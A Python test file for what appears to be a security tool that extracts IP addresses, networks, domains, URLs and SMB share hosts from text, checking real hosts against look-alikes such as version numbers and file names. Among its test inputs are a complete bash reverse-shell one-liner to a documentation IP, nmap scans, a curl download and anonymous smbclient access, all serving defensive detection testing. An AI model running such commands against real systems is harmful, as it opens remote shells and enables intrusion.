"""Hosts by form: what is an address, a URL, a share, a dotted name, and what only looks like one."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.detect.observables_found import found, values

from suragh.detect.observables.hosts import alternatives, named_host
from suragh.detect.observables.validators import dotted, host_ipv4
from suragh.model.observable import ObservableKind as Kind

HOSTS = (Kind.IPV4, Kind.IPV6, Kind.CIDR, Kind.DOMAIN, Kind.HOST)
LABELS = st.from_regex(r"[a-z][a-z0-9]{1,8}(-[a-z0-9]{1,5})?", fullmatch=True)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("nmap -sV 192.0.2.17", {"192.0.2.17"}, id="argument"),
        pytest.param("('198.51.100.4', 445)", {"198.51.100.4"}, id="quoted"),
        pytest.param("up\\n203.0.113.9\\nup", {"203.0.113.9"}, id="between line ends that JSON escaped"),
        pytest.param("bash -i >& /dev/tcp/192.0.2.5/4444 0>&1", {"192.0.2.5"}, id="a path's part"),
        pytest.param("nmap 198.51.100.0/24", {"198.51.100.0/24"}, id="network"),
        pytest.param("inet 198.51.100.7/24 brd 198.51.100.255", {"198.51.100.7", "198.51.100.0/24"}, id="interface"),
        pytest.param("route 192.0.2.7/32", {"192.0.2.7"}, id="a network of one"),
        pytest.param("inet6 2001:DB8:0:0::7/64", {"2001:db8::7"}, id="the short form of IPv6"),
        pytest.param("tool v1.2.3.4, version 4.5.6.7, 1.2.3.4.5", set(), id="versions"),
        pytest.param("gems/model-7.2.3.1/lib\n  2.3.1.3. Title", set(), id="packages and headings"),
        pytest.param("it is 192.0.2.9. Then", {"192.0.2.9"}, id="end of a sentence"),
        pytest.param("1.3.6.1.4.1.311 and 1.3.6.1 and 2.5.4.3", set(), id="object identifiers"),
        pytest.param("listen 0.0.0.0:80 127.0.0.1 127.8.9.1 ::1 localhost", set(), id="this machine"),
        pytest.param("mask 255.255.255.0 via 224.0.0.251 fe80::1", set(), id="masks, groups, links"),
        pytest.param("300.1.2.3 1.2.3.999 01.2.3.4", set(), id="no octets"),
        pytest.param("12:34:56 at 2025:11:05 10:20:30", set(), id="times and dates"),
        pytest.param("std::fmt::Debug ab::cd fd::ad", set(), id="paths of code"),
        pytest.param("7.2.0.192.in-addr.arpa", set(), id="reverse names"),
        pytest.param("10.0.0.0/8, 172.16.0.0/12 and 192.168.0.0/16", set(), id="everybody's private blocks"),
    ],
)
def test_addresses(text: str, expected: set[str]) -> None:
    """Addresses of one host and networks are found in one form; numbers that look like them are not."""
    assert values(text, *HOSTS) == expected


@given(
    number=st.integers(0, 2**32 - 1),
    before=st.sampled_from([" ", "(", "@", "=", '"', "\n", "//"]),
    after=st.sampled_from([" ", ":22", "/x", ",", "\n", ""]),
)
def test_every_host_address_is_found(number: int, before: str, after: str) -> None:
    """Between any separators an address is found exactly if it can be one host's."""
    address = dotted(number)
    oid = address.startswith(("1.3.6.1", "2.5.4.", "2.5.29."))

    assert values(f"x{before}{address}{after}", Kind.IPV4) == ({address} if host_ipv4(number) and not oid else set())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("see https://Docs.Example.COM./a", {"docs.example.com"}, id="small letters, no final dot"),
        pytest.param("resolve db-09.corp.internal now", {"db-09.corp.internal"}, id="internal suffix"),
        pytest.param("SRV _ldap._tcp.dc1.example.com", {"dc1.example.com"}, id="service labels are no host"),
        pytest.param("CN=*.example.org", {"example.org"}, id="wildcard"),
        pytest.param("realm EXAMPLE.COM", {"example.com"}, id="Kerberos writes capitals"),
        pytest.param("import os.path; self.id; std.io; log.info", set(), id="members"),
        pytest.param("open main.py build.sh README.md lib.rs a.pl x.so", set(), id="file names"),
        pytest.param("foo.com() and System.Net.Http and fooBar.de", set(), id="calls and namespaces"),
        pytest.param("edit report.com.txt", set(), id="a name that goes on"),
        pytest.param("src/example.com/main", set(), id="a folder"),
        pytest.param("cat .env.local settings.local self.local", set(), id="local settings"),
        pytest.param("ASP.NET on localhost.localdomain", set(), id="products and the machine itself"),
    ],
)
def test_dotted_names(text: str, expected: set[str]) -> None:
    """A dotted name is a host where its suffix says so, and code and files are none."""
    assert values(text, Kind.DOMAIN, Kind.HOST) == expected


@given(
    labels=st.lists(LABELS, min_size=1, max_size=3), suffix=st.sampled_from(["com", "de", "co.uk", "internal", "lan"])
)
def test_every_plain_name_is_found(labels: list[str], suffix: str) -> None:
    """A name of ordinary labels under an unambiguous suffix is found wherever blanks surround it."""
    name = ".".join([*labels, "host1", suffix])

    assert values(f"go to {name} now", Kind.DOMAIN, Kind.HOST) == {name}


@pytest.mark.parametrize(
    ("text", "value"),
    [
        pytest.param("HTTP://Example.com:80/", "http://example.com", id="default port and root"),
        pytest.param("https://example.com:8443/A/b", "https://example.com:8443/A/b", id="port and case of the path"),
        pytest.param("(https://example.com/x).", "https://example.com/x", id="the sentence's punctuation"),
        pytest.param("http://u:secret9@web01/x", "http://web01/x", id="without user and password"),
        pytest.param("http://web01/x?id=7&q=a%20b&id=8#top", "http://web01/x?id&q", id="names of the query alone"),
        pytest.param("ldap://[2001:db8::1]:389/dc=x", "ldap://[2001:db8::1]/dc=x", id="IPv6 in brackets"),
        pytest.param("curl http://get.example.sh/i", "http://get.example.sh/i", id="a suffix that files have, too"),
    ],
)
def test_urls_have_one_form(text: str, value: str) -> None:
    """Scheme and host in small letters, no default port, no user, no values."""
    assert values(text, Kind.URL) == {value}


@pytest.mark.parametrize(
    "text",
    [
        "http://$HOST/x",
        "http://<target>/",
        "http://{host}:80/",
        "file:///etc/x",
        "crate://x",
        "http://localhost:3000/a",
    ],
)
def test_no_url(text: str) -> None:
    """Templates, local files, unknown schemes and the machine itself are no URLs of the network."""
    assert values(text, Kind.URL, *HOSTS) == set()


def test_a_name_at_the_end_of_a_cut_text_is_not_whole() -> None:
    """Where a long text ends in an unknown name, the name was probably longer."""
    assert values("x " * 600 + "see http://web0", Kind.HOST, Kind.URL) == set()
    assert values("see http://web0", Kind.HOST) == {"web0"}


def test_a_url_names_its_host_too() -> None:
    """The host of a URL is an observable with its own span."""
    text = "wget http://web01.example.org:8080/a"
    host = next(seen for seen in found(text) if seen.kind is Kind.DOMAIN)

    assert text[host.start : host.end] == "web01.example.org" == host.value == host.shown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"dir \\FILES-2\backup$", {"files-2"}),
        (r'{"cmd": "dir \\\\files-2\\backup"}', {"files-2"}),
        ("smbclient //files-2/backup -N", {"files-2"}),
        ("smbclient //filesrv/C$", {"filesrv"}),
        ("// foo/bar and //foo/bar", set()),
        (r"'\\x41\\u0041' and \\root\\loot", set()),
    ],
)
def test_shares_name_hosts(text: str, expected: set[str]) -> None:
    """UNC names hold a host, also escaped once; comments and escapes hold none."""
    assert values(text, Kind.HOST) == expected


def test_a_name_that_stands_where_a_host_must_needs_no_known_suffix() -> None:
    """Where only a host can stand, an unknown last label makes an internal name, a number none."""
    assert named_host("app.lab1") == (Kind.HOST, "app.lab1")
    assert named_host("app.example.py") == (Kind.DOMAIN, "app.example.py")
    assert named_host("1.2") is None
    assert named_host("-x") is None


@given(st.sets(st.text("abc.", min_size=1, max_size=4), min_size=1))
def test_alternatives_match_every_word_whole(some: set[str]) -> None:
    """Grouping by first letter loses no word and adds none."""
    pattern = re.compile(alternatives(some))

    assert all(pattern.fullmatch(word) for word in some)
    assert not pattern.fullmatch("d")
